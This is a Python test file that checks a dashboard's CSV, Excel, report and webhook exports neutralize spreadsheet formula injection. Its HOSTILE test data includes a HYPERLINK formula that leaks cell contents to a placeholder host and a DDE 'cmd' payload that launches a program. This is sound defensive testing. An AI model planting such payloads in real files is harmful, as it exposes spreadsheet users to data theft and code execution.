"""Every export path is formula-safe, through the one rule of dashboard/ops/export.py: page downloads (CSV,
Excel), `cockpit query/sql --format csv`, the reports' CSV attachments and the generic webhook's JSON.
And `cockpit query NAME --format csv|json` works for every named query (lists and structs as JSON text).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import subprocess
import sys
import zipfile
from typing import Any

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from dashboard.cli import app
from dashboard.core.config import ReportConfig, Settings
from dashboard.ops import reports
from dashboard.ops.alerts import Finding, alert_message
from dashboard.ops.export import FORMULA_START, csv_text, neutralize, safe_frame, to_csv, to_excel
from dashboard.ops.notify import Message, webhook_request
from dashboard.query.warehouse import list_queries

# Cells a spreadsheet would run, and what each must become.
HOSTILE = {
    '=HYPERLINK("http://x.example/?"&A1,"click")': '\'=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
}
SAFE = ["ok", "1+1", "a=b", "", "＝1+1", "'=already"]


def frame() -> pl.DataFrame:
    cells = [*HOSTILE, *SAFE]
    return pl.DataFrame(
        {
            "text": cells,
            "number": [-2.5] * len(cells),
            "tags": [["=1+1", "b"]] * len(cells),
            "=head": ["x"] * len(cells),
        }
    )


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_cli_and_report_csv_neutralize_every_formula() -> None:
    rows = read_csv(csv_text(frame()))
    assert list(rows[0]) == ["text", "number", "tags", "'=head"]
    for row, (cell, safe) in zip(rows, HOSTILE.items(), strict=False):
        assert row["text"] == safe, cell
    assert [r["text"] for r in rows[len(HOSTILE) :]] == SAFE  # text that starts no formula is left as it is
    assert rows[0]["number"] == "-2.5"  # numbers are numbers
    assert json.loads(rows[0]["tags"]) == ["=1+1", "b"]  # a list as JSON text (it starts with "[")


def test_page_downloads_neutralize_and_encode_nested_values() -> None:
    rows = read_csv(to_csv(frame()).decode("utf-8-sig"))
    assert [r["text"] for r in rows[: len(HOSTILE)]] == list(HOSTILE.values())
    assert json.loads(rows[0]["tags"]) == ["=1+1", "b"]
    book = zipfile.ZipFile(io.BytesIO(to_excel(frame())))
    strings = book.read("xl/sharedStrings.xml").decode()
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no cell is a formula
    assert "&apos;=HYPERLINK" in strings or "'=HYPERLINK" in strings
    assert "[&quot;=1+1&quot;, &quot;b&quot;]" in strings or '["=1+1", "b"]' in strings


@settings(max_examples=300, deadline=None, database=None)
@given(st.text(min_size=0, max_size=12), st.sampled_from(["", *FORMULA_START]))
def test_the_column_rule_is_the_cell_rule(text: str, start: str) -> None:
    """safe_frame neutralizes a column exactly as neutralize does one cell, whatever the text."""
    cell = start + text
    assert safe_frame(pl.DataFrame({"c": [cell]}))["c"][0] == neutralize(cell)
    assert not any(c.startswith(FORMULA_START) for c in read_csv(csv_text(pl.DataFrame({"c": [cell]})))[0].values())


def test_report_attachments_are_formula_safe() -> None:
    report = ReportConfig(name="weekly", to=["boss@example.com"], period="week")
    day = dt.date(2026, 3, 9)
    channels = pl.DataFrame({"channel": ['=HYPERLINK("x")', "paid_search"], "leads": [1, 2]})
    leads = pl.DataFrame({"lead_id": ["L1"], "name": ["+1+1"], "phone": ["@SUM(1)"]})
    digest = reports.Digest(report, "en", (day, day), (day, day), [], channels, pl.DataFrame(), leads, None, [])
    files = {a.filename: a.content.decode() for a in reports.message(digest).attachments}
    assert read_csv(files["weekly_channels_2026-03-09.csv"])[0]["channel"] == '\'=HYPERLINK("x")'
    assert read_csv(files["weekly_leads_2026-03-09.csv"])[0] == {"lead_id": "L1", "name": "'+1+1", "phone": "'@SUM(1)"}


def test_alert_payloads_are_formula_safe() -> None:
    from dashboard.core.config import AlertConfig

    rule = AlertConfig(name="=rule", kind="metric_change", channels=["c"], query="q", column="leads", change_pct=5)
    msg = alert_message(rule, [Finding("=rule", "-2+3", '=HYPERLINK("x") moved')])
    _, body = webhook_request("webhook", "http://hook.example/x", None, msg, 0.0)

    def texts(value: Any) -> list[str]:
        if isinstance(value, dict):
            return [*value, *(t for v in value.values() for t in texts(v))]
        if isinstance(value, list):
            return [t for v in value for t in texts(v)]
        return [value] if isinstance(value, str) else []

    assert all(not t.startswith(FORMULA_START) for t in texts(body)), body
    assert body["findings"][0] == {"rule": "'=rule", "subject": "'-2+3", "text": '\'=HYPERLINK("x") moved'}
    assert body["text"].startswith("'- ")  # the text's first line is a list item: "-" starts a formula too
    plain = webhook_request("webhook", "http://hook.example/x", None, Message("t", "fine"), 0.0)[1]
    assert plain == {"title": "t", "text": "fine", "severity": "info"}


# -- every named query, as CSV and JSON ----------------------------------------------------------------
@pytest.mark.parametrize("name", list_queries())
def test_every_named_query_exports_as_csv_and_json(company: Settings, name: str) -> None:
    cfg = str(company.base_dir / "cockpit.toml")
    runner = CliRunner()
    out = runner.invoke(app, ["--config", cfg, "query", name, "--format", "csv"])
    assert out.exit_code == 0, (out.output, out.exception)
    rows = list(csv.reader(io.StringIO(out.stdout)))
    header = rows[0]
    assert header and all(len(r) == len(header) for r in rows), name  # it parses, every row has the header's columns
    as_json = runner.invoke(app, ["--config", cfg, "query", name, "--format", "json"])
    assert as_json.exit_code == 0, (as_json.output, as_json.exception)
    records = json.loads(as_json.stdout)
    assert len(records) == len(rows) - 1
    assert not records or list(records[0]) == [h.removeprefix("'") for h in header]


def test_nested_columns_through_the_real_command(company: Settings) -> None:
    """The command as a user runs it: exit 0, no traceback, lists as JSON text."""
    cfg = str(company.base_dir / "cockpit.toml")
    done = subprocess.run(
        [sys.executable, "-m", "dashboard.cli", "--config", cfg, "query", "customer_profile", "-f", "csv"],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    rows = read_csv(done.stdout)
    assert rows and isinstance(json.loads(rows[0]["sources"]), list)
